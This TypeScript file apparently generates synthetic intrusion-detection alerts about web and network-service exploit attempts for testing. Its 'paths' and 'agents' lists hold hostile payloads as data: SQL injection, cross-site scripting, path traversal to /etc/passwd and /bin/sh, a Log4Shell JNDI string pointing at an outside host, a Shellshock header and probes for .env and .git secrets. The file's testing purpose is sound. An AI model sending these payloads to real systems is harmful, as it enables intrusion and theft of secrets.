import { addressText } from '../address.ts'
import { enclose } from '../attachment.ts'
import { honeypots, others } from '../detectors.ts'
import type { Draft } from '../event.ts'
import { attacker, partyOf, peerOf, type Scene, sometimesRemark, sourceOf } from '../scene.ts'
import type { Scenario } from './scenario.ts'

/** Attempts to exploit web applications and other services. */
export const web: readonly Scenario[] = [
  {
    name: 'exploit of a web application',
    weight: 480,
    detectors: [others.webserver, honeypots.glastopf, others.suricata],
    timing: { lasts: [1, 60], noticed: [0, 5] },
    build: exploit,
  },
  {
    name: 'exploit of a network service',
    weight: 120,
    detectors: [honeypots.dionaea, others.suricata],
    timing: { noticed: [0, 5] },
    build: service,
  },
  {
    name: 'unknown exploit',
    weight: 80,
    detectors: [others.suricata, others.webserver],
    timing: { noticed: [0, 60] },
    build: unknown,
  },
]

/** Paths of attacks seen everywhere: they exercise escaping in every place that shows an event. */
const paths = [
  { path: '/index.php?id=1%27%20UNION%20SELECT%201,2--', label: 'SQL injection' },
  { path: "/produkty?název='; DROP TABLE events; --", label: 'SQL injection' },
  { path: '/search?q=<script>alert("xss")</script>', label: 'cross-site scripting' },
  { path: '/"><img src=x onerror=alert(1)>', label: 'cross-site scripting' },
  { path: '/../../../../etc/passwd', label: 'path traversal' },
  { path: '/cgi-bin/.%2e/.%2e/.%2e/bin/sh', label: 'path traversal', cve: 'CVE-2021-41773' },
  { path: '/?x=${jndi:ldap://203.0.113.66/a}', label: 'Log4Shell', cve: 'CVE-2021-44228' },
  { path: '/wp-login.php', label: 'WordPress login' },
  { path: '/.env', label: 'search for secrets' },
  { path: '/.git/config', label: 'search for secrets' },
  {
    path: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    label: 'PHPUnit',
    cve: 'CVE-2017-9841',
  },
  { path: '/{{7*7}}%00', label: 'template injection' },
  { path: '/=HYPERLINK("http://example.net";"click")', label: 'formula injection' },
]

const agents = [
  'Mozilla/5.0 zgrab/0.x',
  'curl/8.5.0',
  'sqlmap/1.8\'"',
  'python-requests/2.31.0',
  '() { :; }; echo',
  '-',
]

const services = [
  {
    port: 445,
    proto: ['tcp', 'microsoft-ds'],
    label: 'SMBv1 remote code execution',
    cve: 'CVE-2017-0144',
  },
  {
    port: 3389,
    proto: ['tcp', 'ms-wbt-server'],
    label: 'RDP remote code execution',
    cve: 'CVE-2019-0708',
  },
  { port: 7547, proto: ['tcp', 'cwmp'], label: 'TR-064 command injection', cve: 'CVE-2016-10372' },
  { port: 37_215, proto: ['tcp'], label: 'router command injection', cve: 'CVE-2017-17215' },
]

function exploit(scene: Scene): Draft {
  const { random } = scene
  const who = attacker(scene)
  const host = peerOf(scene, who)
  const { path, label, cve } = random.pick(paths)
  const agent = random.pick(agents)
  const authority = random.chance(0.6)
    ? host.name
    : host.family === 4
      ? addressText(host)
      : `[${addressText(host)}]`
  const request = `GET ${path} HTTP/1.1\r\nHost: ${authority}\r\nUser-Agent: ${agent}\r\nAccept: */*\r\n\r\n`
  return {
    Category: path === '/wp-login.php' ? ['Attempt.Login'] : ['Attempt.Exploit'],
    Description: `Web attack: ${label}`,
    ConnCount: random.small(1, 80),
    ...(cve !== undefined && { Ref: [`urn:cve:${cve}`] }),
    Source: [
      sourceOf(scene, who, {
        Port: [random.integer(1024, 65_535)],
        UserAgent: agent,
        AttachHand: ['request'],
      }),
    ],
    Target: [
      partyOf(host, {
        Hostname: [host.name],
        Port: [443],
        Proto: ['tcp', 'https'],
        URL: [`https://${authority}${path}`],
      }),
    ],
    Attach: [
      enclose({
        handle: 'request',
        name: 'request.txt',
        type: 'OrigData',
        contentType: 'text/plain',
        content: request,
      }),
    ],
    ...sometimesRemark(scene, 0.1),
  }
}

function service(scene: Scene): Draft {
  const { random } = scene
  const who = attacker(scene)
  const { port, proto, label, cve } = random.pick(services)
  return {
    Category: ['Attempt.Exploit'],
    Description: label,
    Ref: [`urn:cve:${cve}`, `https://advisories.example.org/${cve}`],
    Confidence: 0.9,
    Source: [sourceOf(scene, who, { Port: [random.integer(1024, 65_535)], Proto: [...proto] })],
    Target: [partyOf(peerOf(scene, who), { Port: [port], Proto: [...proto] })],
    Attach: [
      enclose({
        handle: 'payload',
        name: 'payload.bin',
        type: 'OrigData',
        contentType: 'application/octet-stream',
        content: random.bytes(random.small(60, 700)),
      }),
    ],
  }
}

function unknown(scene: Scene): Draft {
  const { random } = scene
  const who = attacker(scene)
  return {
    Category: [random.chance(0.7) ? 'Attempt.NewSignature' : 'Attempt'],
    Description: 'Request that resembles an exploit and matches no signature',
    Confidence: random.integer(5, 40) / 100,
    Source: [sourceOf(scene, who)],
    Target: [partyOf(peerOf(scene, who), { Port: [random.integer(1, 65_535)], Proto: ['tcp'] })],
    ...sometimesRemark(scene, 0.4),
  }
}
